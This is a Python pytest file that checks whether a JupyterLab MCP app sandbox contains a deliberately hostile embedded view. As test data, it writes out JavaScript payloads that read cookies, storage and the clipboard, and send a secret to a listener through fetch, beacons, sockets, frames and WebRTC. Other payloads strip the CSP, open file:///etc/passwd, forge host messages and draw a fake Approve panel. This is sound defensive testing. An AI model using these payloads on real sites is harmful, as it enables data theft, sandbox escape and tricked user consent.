"""A view that means harm: it reads the page, sends things out, leaves its frame, floods, and poses as its host."""

from __future__ import annotations

import shlex
import sys
import time
from contextlib import suppress
from typing import TYPE_CHECKING

import pytest

from tests.support import SUPPORT
from tests.support.hostile_view_server import NAVIGATIONS, SECRET
from tests.support.listening import listening, listening_for_datagrams
from tests.support.pages import WAIT_MS, expect, finished, press, run, start

if TYPE_CHECKING:
    import socket

    from playwright.sync_api import Frame, Locator

    from tests.support.lab import Lab
    from tests.support.listening import Listener

pytestmark = pytest.mark.slow

SERVER = SUPPORT / "hostile_view_server.py"

# What a view may not read of the page and of its browser: each is to fail, or to give nothing.
READING = {
    "the document of its frame's page": "parent.document.title",
    "the document of the notebook": "top.document.title",
    "the address of the notebook": "top.location.href",
    "JupyterLab's application": "top.jupyterapp.commands.execute",
    "the element that holds it": "frameElement.id",
    "cookies": "document.cookie",
    "local storage": "localStorage.length",
    "session storage": "sessionStorage.length",
    "databases": "indexedDB.open('a').then",
    "caches": "await caches.keys()",
    "the clipboard": "await navigator.clipboard.readText()",
    "the camera": "await navigator.mediaDevices.getUserMedia({video: true})",
    "the microphone": "await navigator.mediaDevices.getUserMedia({audio: true})",
    "the place": "await new Promise((found, failed) => navigator.geolocation.getCurrentPosition(found, failed))",
    "service workers": "await navigator.serviceWorker.register('x.js')",
    "files of the computer": "await showOpenFilePicker()",
    "the screen": "await navigator.mediaDevices.getDisplayMedia()",
}

_LOADED = """const load = (tag, values) => new Promise((done, failed) => {
  const element = Object.assign(document.createElement(tag), values);
  element.onload = () => done('loaded');
  element.onerror = () => failed(new Error('not loaded'));
  document.body.append(element);
  setTimeout(() => failed(new Error('nothing')), 300);
});
const socket = made => new Promise((done, failed) => { made.onopen = done; made.onerror = failed; });
"""

# Ways to send something out from a script; none may arrive.
SENDING = {
    "fetch": "await fetch(OUT + '/fetch', {mode: 'no-cors'})",
    "fetch with a body": "await fetch(OUT + '/post', {method: 'POST', body: secret, mode: 'no-cors', keepalive: true})",
    "XMLHttpRequest": "await new Promise((done, failed) => { const x = new XMLHttpRequest(); x.onload = done; "
    "x.onerror = failed; x.open('GET', OUT + '/xhr'); x.send() })",
    "a WebSocket": "await socket(new WebSocket(OUT.replace('http', 'ws') + '/websocket'))",
    "events": "await socket(new EventSource(OUT + '/events'))",
    "WebTransport": "await new WebTransport(OUT.replace('http:', 'https:') + '/transport').ready",
    "a beacon": "navigator.sendBeacon(OUT + '/beacon', secret)",
    "an image": "await load('img', {src: OUT + '/image'})",
    "a style sheet": "await load('link', {rel: 'stylesheet', href: OUT + '/sheet'})",
    "a script": "await load('script', {src: OUT + '/script-src'})",
    "a module": "await import(OUT + '/module')",
    "a worker": "await socket(new Worker(OUT + '/worker'))",
    "a worker of its own text": "await new Promise((done, failed) => { "
    "const text = `fetch('${OUT}/blob-worker', {mode: 'no-cors'}).catch(() => 0).then(() => postMessage(1))`; "
    "const w = new Worker(URL.createObjectURL(new Blob([text]))); w.onmessage = done; w.onerror = failed })",
    "a prefetch": "await load('link', {rel: 'prefetch', href: OUT + '/prefetch'})",
    "a preload": "await load('link', {rel: 'preload', as: 'fetch', href: OUT + '/preload'})",
    "a frame": "await load('iframe', {src: OUT + '/frame'}).finally(() => document.querySelector('iframe:last-child')"
    ".remove())",
    "a frame of its own text": "await load('iframe', {srcdoc: `<img src='${OUT}/inner-image'><script>"
    "fetch('${OUT}/inner-fetch', {mode: 'no-cors'}).catch(() => 0)<\\/script>`})",
    "a font": "await new FontFace('x', `url(${OUT}/font)`).load()",
    "a video": "await load('video', {src: OUT + '/film'})",
    "an object": "await load('object', {data: OUT + '/thing'})",
    "a window": "open(OUT + '/window')",
    "a form in a window": "const f = Object.assign(document.createElement('form'), {action: OUT + '/window-form', "
    "target: '_blank'}); document.body.append(f); f.submit()",
    "a policy that is removed": "document.querySelectorAll('meta').forEach(m => m.remove()); "
    "await fetch(OUT + '/removed', {mode: 'no-cors'})",
    "a policy that is replaced": "document.head.insertAdjacentHTML('afterbegin', `<meta http-equiv="
    "'Content-Security-Policy' content='default-src *'>`); await fetch(OUT + '/replaced', {mode: 'no-cors'})",
    "the server of the page": "await fetch(location.ancestorOrigins[location.ancestorOrigins.length - 1] + "
    "'/api/contents', {mode: 'no-cors'})",
}

_PEER = """const peer = "try { const p = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:PORT'}]}); " +
  "p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o)) } catch {}";
const own = `<script>${peer}</` + 'script>', frame = document.createElement('iframe');
const add = () => { document.body.append(frame); return new Promise(done => setTimeout(done, 300)); };
"""

# Ways to WebRTC, which no policy of a document stops: the classes of the view's window and of windows of its frames.
PEERS = {
    "its own window": "eval(peer)",
    "the name with a prefix": "eval(peer.replace('RTC', 'webkitRTC'))",
    "the window of an empty frame": "await add(); new frame.contentWindow.RTCPeerConnection()",
    "a document in a frame": "frame.srcdoc = own; await add()",
    "an attribute": "frame.setAttribute('SRCDOC', own); await add()",
    "a node of an attribute": "const a = document.createAttribute('srcdoc'); frame.setAttributeNode(a); "
    "a.value = own; await add()",
    "markup": "const p = document.createElement('p'); p.innerHTML = `<iframe srcdoc=\"${own}\"></iframe>`; "
    "document.body.append(p); await add()",
    "a parsed document": 'const d = new DOMParser().parseFromString(`<iframe srcdoc="${own}"></iframe>`, '
    "'text/html'); "
    "document.body.append(d.querySelector('iframe')); await add()",
    "a document in parts": "const d = document.implementation.createHTMLDocument(''); d.write('<iframe sr'); "
    'd.write(`cdoc="${own}"></iframe>`); document.body.append(d.querySelector("iframe")); await add()',
    "a document of a request": "const x = new XMLHttpRequest(); x.responseType = 'document'; await new Promise(done => "
    "{ x.onload = done; x.open('GET', 'data:text/html,' + encodeURIComponent(`<iframe srcdoc=\"${own}\"></iframe>`)); "
    "x.send() }); document.body.append(x.responseXML.querySelector('iframe')); await add()",
    "a policy of its own": "const p = document.createElement('p'); p.innerHTML = trustedTypes.createPolicy('x', "
    '{createHTML: t => t}).createHTML(`<iframe srcdoc="${own}"></iframe>`); document.body.append(p); await add()',
    "methods that it replaces": "const before = String.prototype.charCodeAt; String.prototype.charCodeAt = () => 0; "
    "frame.srcdoc = own; String.prototype.charCodeAt = before; await add()",
    "an address that is a script": "frame.src = 'javascript:' + encodeURIComponent(peer); await add()",
    "an address of data": "frame.src = 'data:text/html,' + encodeURIComponent(own); await add()",
    "a frame in a frame": "frame.srcdoc = `<iframe srcdoc='${own.replaceAll(\"'\", '`')}'></iframe>`; await add()",
}


def view(shown: Locator) -> Frame:
    """Wait until the view in a cell's output has the result of its call, and return its frame."""
    expect(shown.locator(".mcp-app-status")).to_have_text("")
    outer = shown.locator(".mcp-app-frame > iframe").element_handle()
    relay = outer.content_frame() if outer else None
    assert relay is not None
    relay.child_frames[0].wait_for_function("secret === 'TOPSECRET'", timeout=WAIT_MS)
    return relay.child_frames[0]


def attempt(frame: Frame, script: str, seconds: int = 2) -> str | None:
    """Run an attack in a view, as at a click; return what it got, None if it failed."""
    attempted = f"""async () => {{
        {_LOADED}
        const late = new Promise((done, failed) => setTimeout(() => failed(new Error('late')), {1000 * seconds}));
        const got = (async () => {{ {script} }})();
        try {{ return String(await Promise.race([late, got])) }} catch (error) {{ return null }}
    }}"""
    got: str | None = frame.evaluate(attempted)
    return got


def arrived(lab: Lab, heard: Listener) -> list[str]:
    """Return what has arrived until now, and forget it: a request of the page itself comes after all that was sent."""
    lab.page.evaluate("url => fetch(url, {mode: 'no-cors'})", f"{heard.url}/end")
    end = "GET /end HTTP/1.1"
    until = time.monotonic() + WAIT_MS / 1000
    while end not in heard.came and time.monotonic() < until:
        time.sleep(0.01)
    came = [line for line in heard.came if line != end]
    assert end in heard.came, "the page itself can reach the listener"
    heard.came.clear()
    return came


def datagrams(lab: Lab, heard: socket.socket) -> int:
    """Return how many datagrams have arrived until now: one of the page itself comes after all that was sent."""
    with listening_for_datagrams() as control:
        control.settimeout(WAIT_MS / 1000)
        asks = """async port => {
            const peer = new RTCPeerConnection({iceServers: [{urls: `stun:127.0.0.1:${port}`}]});
            peer.createDataChannel('x');
            await peer.setLocalDescription(await peer.createOffer());
        }"""
        lab.page.evaluate(asks, control.getsockname()[1])
        assert control.recv(2000), "the page itself can reach a listener"
    heard.setblocking(False)
    count = 0
    with suppress(BlockingIOError):
        while heard.recv(2000):
            count += 1
    return count


def decided(lab: Lab) -> list[str]:
    """Return what was decided until now about what the views want, from the audit."""
    code = "for r in host.consent.audit.records:\n    if r.asker == 'app hostile': print(r.tool, r.decision)"
    return [line for line in run(lab, code).inner_text().split("\n") if line]


@pytest.fixture(scope="module")
def heard():
    with listening() as listener:
        yield listener


@pytest.fixture(scope="module")
def connected(notebook, heard):
    command = shlex.join([sys.executable, str(SERVER), heard.url])
    run(notebook, f"%mcp connect --name hostile -- {command}")
    return notebook


@pytest.fixture(scope="module")
def cell(connected):
    return start(connected, "%mcp call hostile:puppet")


@pytest.fixture(scope="module")
def puppet(connected, cell):
    return view(finished(cell))


@pytest.mark.firefox
def test_a_view_reads_nothing_of_the_page_and_the_browser(connected, puppet):
    assert {what: got for what in READING if (got := attempt(puppet, f"return {READING[what]}")) is not None} == {}
    names = puppet.evaluate("[location.href, document.baseURI, document.referrer, document.URL, name].join(' ')")
    assert connected.page.url.split("//")[1].split("/")[0] not in names, "nor the address of the page"


@pytest.mark.firefox
@pytest.mark.parametrize("way", SENDING)
def test_a_script_of_a_view_sends_nothing_out(connected, heard, puppet, way):
    pages = connected.page.context.pages
    attempt(puppet, SENDING[way])
    assert arrived(connected, heard) == []
    assert connected.page.context.pages == pages


@pytest.mark.firefox
def test_markup_loads_nothing_from_outside(connected, heard):
    view(run(connected, "%mcp call hostile:markup"))
    assert arrived(connected, heard) == []


@pytest.mark.firefox
def test_a_view_leaves_its_frame_for_no_other_address(connected, heard):
    pages, address = connected.page.context.pages, connected.page.url
    for way in NAVIGATIONS:
        shown = run(connected, f"%mcp call hostile:leave_{way}")
        expect(shown.locator(".mcp-app-status")).to_have_text("")

    assert arrived(connected, heard) == []
    assert (connected.page.context.pages, connected.page.url) == (pages, address)


def test_what_is_not_offered_to_views_is_refused_unasked(cell, puppet):
    call = "name => ask('tools/call', {name, arguments: {text: 'x'}})"
    for name in ("for_models", "nothing", "one_text", "show:one_text"):
        assert "offers no tool" in puppet.evaluate(call, name)["error"]["message"]
    for url in ("javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "ui://x", "//x", 5):
        assert "error" in puppet.evaluate("url => ask('ui/open-link', {url})", url)
    for value in ("'x'.repeat(5e6)", "1n", "(() => { const a = []; a[0] = a; return a })()"):  # too large, or no JSON
        text = f"{{content: [{{type: 'text', text: 'x'}}], structuredContent: {{a: {value}}}}}"
        assert "error" in puppet.evaluate(f"ask('ui/update-model-context', {text})")
    expect(cell.locator(".mcp-app-question")).to_have_count(0)


def test_a_link_opens_only_if_you_agree(connected, cell, puppet):
    pages = connected.page.context.pages
    puppet.evaluate("() => { window.reply = ask('ui/open-link', {url: 'https://example.com/?q=' + secret}); }")
    question = cell.locator(".mcp-app-question")
    expect(question).to_contain_text(f"https://example.com/?q={SECRET}")
    press(question, "Deny")

    assert "denied" in puppet.evaluate("window.reply")["error"]["message"]
    assert connected.page.context.pages == pages


def test_a_panel_that_a_view_draws_approves_nothing(connected, cell, puppet):
    before = decided(connected)
    puppet.evaluate("""() => {
        const panel = document.createElement('div');
        panel.className = 'mcp-app-question';
        panel.style = 'position:fixed; inset:-500px 0 0 -500px; z-index:2147483647; background:white';
        panel.innerHTML = 'app show wants to call delete <button id=fake>Approve</button>';
        document.body.append(panel);
        window.reply = ask('tools/call', {name: 'write', arguments: {text: 'x'}});
    }""")
    question = cell.locator(".mcp-app-question")
    expect(question).to_contain_text("app hostile")
    puppet.evaluate("document.getElementById('fake').click()")
    inside = """element => {
        const frame = element.querySelector('iframe').getBoundingClientRect();
        const own = element.querySelector('.mcp-app-questions').getBoundingClientRect();
        return own.bottom <= frame.top && own.top >= element.getBoundingClientRect().top;
    }"""
    assert cell.locator(".mcp-app").evaluate(inside), "the view's frame covers no question"
    expect(question).to_be_visible()
    press(question, "Deny")
    assert "denied" in puppet.evaluate("window.reply")["error"]["message"]
    puppet.evaluate("document.querySelector('.mcp-app-question').remove()")
    assert decided(connected) == [*before, "write deny"]


def test_messages_in_the_name_of_the_host_change_nothing(connected, cell, puppet):
    before = decided(connected)
    puppet.evaluate("""() => {
        const forged = [
            {id: 1, method: 'tools/call', params: {name: 'write', arguments: {text: 'forged'}}},
            {kind: 'answer', choice: 'once'},
            {method: 'ui/notifications/sandbox-proxy-ready', params: {}},
            {method: 'ui/notifications/sandbox-resource-ready', params: {html: '<h3>replaced</h3>', allow: 'camera'}},
            {method: 'ui/notifications/sandbox-dropped', params: {count: 1e9}},
            {method: 'ui/notifications/__proto__', params: {}},
            {id: 'host-1', result: {}},
        ];
        for (const message of forged.map(each => ({jsonrpc: '2.0', ...each}))) {
            top.postMessage(message, '*');
            for (let i = 0; i < top.frames.length; i++)
                if (top.frames[i] !== parent) top.frames[i].postMessage(message, '*');
            if (message.method?.includes('notifications')) parent.postMessage(message, '*');
        }
        const inner = document.createElement('iframe');
        inner.srcdoc = `<script>for (const to of [parent.parent, top])
            to.postMessage({jsonrpc: '2.0', id: 1, method: 'tools/call',
                params: {name: 'write', arguments: {text: 'inner'}}}, '*')<\\/script>`;
        document.body.append(inner);
    }""")

    assert puppet.evaluate("ask('ping', {})")["result"] == {}
    expect(cell.locator(".mcp-app-question")).to_have_count(0)
    assert puppet.evaluate("document.querySelector('h3').textContent") == "puppet"
    assert decided(connected) == before


def test_a_view_is_no_higher_than_the_page_allows(cell, puppet):
    for height in ("1e9", "-5", "NaN", "Infinity", "'900'", "null", "{}"):
        puppet.evaluate(f"post({{method: 'ui/notifications/size-changed', params: {{height: {height}}}}})")
    puppet.evaluate("ask('ping', {})")

    assert 0 < cell.locator(".mcp-app-frame iframe").bounding_box()["height"] <= 800  # type: ignore[index]


def test_floods_are_refused_and_stop_their_view_and_nothing_else(connected):
    shown = run(connected, "%mcp call hostile:puppet")
    refused = """new Promise(done => {
        for (let i = 0; i < 100; i++)
            ask('tools/call', {name: 'write', arguments: {text: 'x'}}).then(({error}) => error && done(error.message));
    })"""
    frame = view(shown)
    assert "requests are pending" in frame.evaluate(refused)
    expect(shown.locator(".mcp-app-question")).to_have_count(1)
    frame.evaluate("for (let i = 0; i < 30_000; i++) post({method: 'ui/notifications/size-changed', params: {}})")
    expect(shown.locator(".mcp-app-status")).to_contain_text("stopped: it sent too many messages")
    expect(run(connected, "print('the notebook goes on')")).to_contain_text("goes on")


@pytest.mark.firefox
@pytest.mark.parametrize("way", PEERS)
def test_a_script_of_a_view_has_no_webrtc(connected, puppet, way):
    with listening_for_datagrams() as heard:
        attempt(puppet, _PEER + PEERS[way].replace("PORT", str(heard.getsockname()[1])))
        assert datagrams(connected, heard) == 0


@pytest.mark.firefox
def test_frames_in_markup_have_no_webrtc(connected, heard):
    with listening_for_datagrams(int(heard.url.rpartition(":")[2])) as datagram:
        view(run(connected, "%mcp call hostile:peers"))
        assert datagrams(connected, datagram) == 0


WORKING = {
    "markup": "const p = document.createElement('p'); p.innerHTML = '<b>1</b>'; return p.firstChild.textContent",
    "parsed markup": "return new DOMParser().parseFromString('<b>1', 'text/html').body.textContent",
    "an own document in a frame": "const f = document.createElement('iframe'); f.srcdoc = '<b>1</b><script>"
    "parent.postMessage({test: document.querySelector(`b`).textContent}, `*`)</script>'; "
    "document.body.append(f); return new Promise(d => addEventListener('message', e => e.data.test && d(e.data.test)))",
    "text that is run": "return eval('1')",
    "the mode of its document": "return Number(document.compatMode === 'CSS1Compat')",
}


@pytest.mark.firefox
def test_what_a_view_needs_goes_on_working(connected, cell):
    # A view in which no attack has run: attacks replace functions of their own view, and fill it with frames.
    unharmed = view(run(connected, "%mcp call hostile:puppet"))
    assert {what: attempt(unharmed, WORKING[what], seconds=30) for what in WORKING} == dict.fromkeys(WORKING, "1")
    assert cell.locator(".mcp-app-title").get_attribute("title") == "loads nothing from elsewhere"


# Firefox is left out: to it each refusal of a policy is an error of the page.
def test_nothing_went_wrong_in_the_page(connected, heard):
    assert (connected.failures, connected.dialogs) == ([], [])
    assert arrived(connected, heard) == []
